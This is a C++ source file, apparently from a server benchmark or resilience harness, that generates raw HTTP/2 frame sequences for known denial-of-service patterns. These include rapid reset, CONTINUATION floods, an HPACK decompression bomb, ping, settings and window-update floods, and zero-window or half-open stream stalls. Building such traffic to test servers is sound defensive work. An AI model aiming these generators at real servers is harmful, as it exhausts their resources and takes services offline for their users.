#include "kinds.h"

#include <array>
#include <utility>

#include "../common/http2.h"

namespace tidegate::bench {
namespace {

using http2::appendField;
using http2::appendFrame;
using http2::FrameType;

constexpr std::array<std::pair<std::string_view, Kind>, 11> kKinds{{
    {"rapid-reset", Kind::RapidReset},
    {"provoked-reset", Kind::ProvokedReset},
    {"continuation", Kind::Continuation},
    {"settings", Kind::Settings},
    {"ping", Kind::Ping},
    {"window-update", Kind::WindowUpdate},
    {"priority", Kind::Priority},
    {"empty-data", Kind::EmptyData},
    {"hpack-bomb", Kind::HpackBomb},
    {"zero-window", Kind::ZeroWindow},
    {"half-open-stream", Kind::HalfOpenStream},
}};

constexpr int kFramesAtOnce = 50;
constexpr int kFragmentsAtOnce = 8;
constexpr std::size_t kFragment = 1024;
// Below what the peer allows at a time, so that it refuses none.
constexpr std::uint32_t kHeldStreams = 100;
// An entry of the table that nearly fills it, then its index again and again.
constexpr std::size_t kBombEntry = 3900;
constexpr std::size_t kBombIndexes = 8000;
constexpr char kNewestEntry = '\xbe';
constexpr char kIndexedLiteral = '\x40';
constexpr std::uint8_t kContentLength = 28;  // of the static table (RFC 7541 A)

std::string bombBlock(std::string block) {
  block.push_back(kIndexedLiteral);
  http2::appendText(block, "x-bomb");
  http2::appendText(block, std::string(kBombEntry, 'x'));
  return block.append(kBombIndexes, kNewestEntry);
}

}  // namespace

bool readKind(std::string_view name, Kind& kind) {
  for (const auto& [known, value] : kKinds) {
    if (known != name) continue;
    kind = value;
    return true;
  }
  return false;
}

std::uint32_t heldStreams(Kind kind) {
  return kind == Kind::ZeroWindow || kind == Kind::HalfOpenStream ? kHeldStreams : 0;
}

Script::Script(Kind kind, std::string_view authority)
    : kind_(kind),
      get_(http2::requestBlock(false, "/b/64", authority)),
      large_(http2::requestBlock(false, "/b/262144", authority)),
      upload_(http2::requestBlock(false, "/upload", authority, true)),
      bomb_(bombBlock(get_)) {
  appendField(upload_, kContentLength, "1000000");
}

void Script::request(std::string& out, std::uint8_t flags, std::string_view block) {
  appendFrame(out, FrameType::Headers, flags, stream_, block);
  stream_ += 2;
}

std::string Script::open() {
  stream_ = 1;
  std::string out{http2::kPreface};
  if (kind_ == Kind::ZeroWindow) {
    http2::appendSetting(out, http2::kInitialWindowSize, 0);
  } else {
    appendFrame(out, FrameType::Settings, 0, 0);
  }
  if (kind_ == Kind::Continuation) request(out, http2::kEndStream, get_);
  if (kind_ == Kind::EmptyData) request(out, http2::kEndHeaders, upload_);
  return out;
}

std::string Script::next() {
  constexpr std::uint8_t kWhole = http2::kEndHeaders | http2::kEndStream;
  constexpr std::string_view kCancel{"\0\0\0\x08", 4};
  constexpr std::string_view kNothing{"\0\0\0\0\0\0\0\0", 8};
  std::string out;
  switch (kind_) {
    case Kind::HpackBomb:
      request(out, kWhole, bomb_);
      return out;
    case Kind::ZeroWindow:
      request(out, kWhole, large_);
      return out;
    case Kind::HalfOpenStream:
      request(out, http2::kEndHeaders, upload_);
      return out;
    case Kind::Continuation: {
      std::string field;
      appendField(field, "x-more", std::string(kFragment, 'x'));
      for (int i = 0; i < kFragmentsAtOnce; ++i) {
        appendFrame(out, FrameType::Continuation, 0, 1, field);
      }
      return out;
    }
    default:
      break;
  }
  for (int i = 0; i < kFramesAtOnce; ++i) {
    const std::uint32_t stream = stream_;
    switch (kind_) {
      case Kind::RapidReset:
        request(out, kWhole, get_);
        appendFrame(out, FrameType::RstStream, 0, stream, kCancel);
        break;
      case Kind::ProvokedReset:
        request(out, kWhole, get_);
        http2::appendWindowUpdate(out, stream, 0);
        break;
      case Kind::Settings:
        http2::appendSetting(out, http2::kInitialWindowSize, http2::kDefaultWindow);
        break;
      case Kind::Ping:
        appendFrame(out, FrameType::Ping, 0, 0, kNothing);
        break;
      case Kind::WindowUpdate:
        http2::appendWindowUpdate(out, 0, 1);
        break;
      case Kind::Priority:
        appendFrame(out, FrameType::Priority, 0, 1, kNothing.substr(0, 5));
        break;
      default:
        appendFrame(out, FrameType::Data, 0, 1);
        break;
    }
  }
  return out;
}

}  // namespace tidegate::bench
